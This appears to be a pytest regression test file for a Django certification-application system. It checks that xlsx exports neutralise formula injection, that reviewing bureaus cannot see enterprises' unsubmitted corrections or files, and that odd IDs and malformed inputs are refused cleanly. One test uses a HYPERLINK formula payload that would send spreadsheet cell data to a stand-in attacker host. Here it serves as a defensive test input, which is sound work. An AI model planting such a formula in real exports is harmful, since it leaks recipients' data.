"""Defects found in review: formula injection in exports, unsubmitted corrections visible to bureaus."""

import zipfile
from io import BytesIO

import pytest
from openpyxl import load_workbook

from certification.models import Attachment
from certification.services import applications as services
from certification.services.attachments import upload_attachment
from tests.certification.helpers import application_fields, open_batch, pdf, submitted

FORMULA = '=HYPERLINK("http://evil.example/?"&C2,"点击查看")'


@pytest.mark.django_db
def test_export_writes_applicant_text_starting_with_equals_as_text_not_formula(world, client):
    batch = open_batch(world.province_user)
    submitted(world.ent_hz_user, world.ent_hz, batch, product_name=FORMULA)
    client.force_login(world.hz_user)

    response = client.get("/api/v1/applications/export.xlsx")

    assert response.status_code == 200
    sheet_xml = "".join(
        zipfile.ZipFile(BytesIO(response.content)).read(n).decode() for n in zipfile.ZipFile(BytesIO(response.content)).namelist()
        if n.startswith("xl/worksheets/")
    )
    assert "<f>" not in sheet_xml
    values = [c.value for row in load_workbook(BytesIO(response.content)).active.iter_rows() for c in row]
    assert FORMULA in values


@pytest.fixture
def returned(world):
    """An application the county returned for correction, then edited (not resubmitted) by the enterprise."""
    batch = open_batch(world.province_user)
    app = submitted(world.ent_hz_user, world.ent_hz, batch, innovation_points="已提交的创新点")
    services.decide(actor=world.binjiang_user, application_id=app.pk, action="county_return", opinion="请补正",
                    items=["补充检测报告"])
    services.update_draft(actor=world.ent_hz_user, application_id=app.pk, innovation_points="未提交的修改 SECRET")
    late = upload_attachment(actor=world.ent_hz_user, application_id=app.pk, type="test_report",
                             uploaded_file=pdf("补充检测报告.pdf"))
    return app, late


@pytest.mark.django_db
def test_bureau_sees_the_submitted_revision_not_the_enterprises_unsubmitted_edits(world, client, returned):
    app, late = returned
    client.force_login(world.binjiang_user)

    api = client.get(f"/api/v1/applications/{app.pk}/").json()
    page = client.get(f"/applications/{app.pk}/").content.decode()

    assert api["innovation_points"] == "已提交的创新点"
    assert late.pk not in [a["id"] for a in api["attachments"]]
    assert "SECRET" not in page and "已提交的创新点" in page
    assert client.get(f"/attachments/{late.pk}/download/").status_code == 404


@pytest.mark.django_db
def test_enterprise_sees_its_own_unsubmitted_edits_and_files(world, client, returned):
    app, late = returned
    client.force_login(world.ent_hz_user)

    api = client.get(f"/api/v1/applications/{app.pk}/").json()

    assert api["innovation_points"] == "未提交的修改 SECRET"
    assert late.pk in [a["id"] for a in api["attachments"]]
    assert client.get(f"/attachments/{late.pk}/download/").status_code == 200


@pytest.mark.django_db
def test_after_resubmission_the_bureau_sees_the_corrected_content(world, client, returned):
    app, late = returned
    services.resubmit(actor=world.ent_hz_user, application_id=app.pk)
    client.force_login(world.binjiang_user)

    api = client.get(f"/api/v1/applications/{app.pk}/").json()

    assert api["innovation_points"] == "未提交的修改 SECRET"
    assert late.pk in [a["id"] for a in api["attachments"]]
    assert Attachment.objects.get(pk=late.pk).removed_at is None
    assert client.get(f"/attachments/{late.pk}/download/").status_code == 200


@pytest.mark.django_db
@pytest.mark.parametrize("url", [
    "/api/v1/applications/%C2%B2/",
    "/applications/new/?batch=%C2%B2",
    "/api/v1/applications/{pk}/revisions/99999999999999999999/diff/",
    "/api/v1/applications/{pk}/revisions/2/diff/?against=99999999999999999999",
    "/api/v1/applications/{pk}/revisions/2/diff/?against=%C2%B2",
])
def test_odd_ids_answer_404_or_400_never_500(world, client, url):
    batch = open_batch(world.province_user)
    app = submitted(world.ent_hz_user, world.ent_hz, batch)
    client.force_login(world.ent_hz_user)

    response = client.get(url.format(pk=app.pk))

    assert response.status_code in (400, 404)


@pytest.mark.django_db
@pytest.mark.parametrize("requirements", [
    {"equipment": ["novelty_search"]},
    {"equipment": {"novelty_search": {"required": True, "formats": ["pdf"], "max_mb": "abc", "max_count": 1}}},
    {"equipment": {"unknown_type": {"required": True, "formats": ["pdf"], "max_mb": 5, "max_count": 1}}},
    {"equipment": {"novelty_search": {"required": True, "formats": ["exe"], "max_mb": 5, "max_count": 1}}},
    ["novelty_search"],
])
def test_malformed_attachment_requirements_are_refused_naming_the_field(world, client, requirements):
    client.force_login(world.province_user)
    from certification.models import Batch

    before = Batch.objects.count()
    response = client.post("/api/v1/batches/", {
        "year": 2027, "name": "2027年度", "opens_at": "2027-03-01T09:00:00+08:00",
        "closes_at": "2027-04-01T17:00:00+08:00", "recommend_deadline": "2027-04-20T17:00:00+08:00",
        "attachment_requirements": requirements,
    }, content_type="application/json")

    assert response.status_code == 400
    assert "attachment_requirements" in response.json()["error"]["fields"]
    assert Batch.objects.count() == before


@pytest.mark.django_db
def test_nothing_is_created_or_submitted_before_the_batch_opens(world):
    from datetime import timedelta

    from django.core.exceptions import ValidationError
    from django.utils import timezone

    from certification.models import Batch

    batch = open_batch(world.province_user)
    app = services.create_application(actor=world.ent_hz_user, batch_id=batch.pk, enterprise_id=world.ent_hz.pk,
                                      commitment=True, **application_fields())
    future = timezone.now() + timedelta(days=10)
    Batch.objects.filter(pk=batch.pk).update(opens_at=future, closes_at=future + timedelta(days=10),
                                             recommend_deadline=future + timedelta(days=20))

    with pytest.raises(ValidationError) as submit_error:
        services.submit(actor=world.ent_hz_user, application_id=app.pk)
    with pytest.raises(ValidationError) as create_error:
        services.create_application(actor=world.ent_hz_user, batch_id=batch.pk, enterprise_id=world.ent_hz.pk,
                                    product_name="另一产品", model_spec="X2", category="equipment",
                                    declared_level="provincial", field="robotics")

    assert "batch" in submit_error.value.message_dict and "batch" in create_error.value.message_dict


@pytest.mark.django_db
def test_a_bad_filter_value_never_widens_the_export(world, client):
    batch = open_batch(world.province_user)
    submitted(world.ent_hz_user, world.ent_hz, batch)
    client.force_login(world.hz_user)

    response = client.get("/applications/export.xlsx?category=new_material&sort=evil")

    assert response.status_code == 400


@pytest.mark.django_db
def test_enterprise_cannot_tell_a_draft_batch_from_a_missing_one(world, client):
    draft_batch = open_batch(world.province_user)
    from certification.models import Batch

    Batch.objects.filter(pk=draft_batch.pk).update(state="draft")
    client.force_login(world.ent_hz_user)

    draft = client.get(f"/api/v1/applications/?batch={draft_batch.pk}")
    missing = client.get("/api/v1/applications/?batch=999999")

    assert draft.status_code == missing.status_code == 400

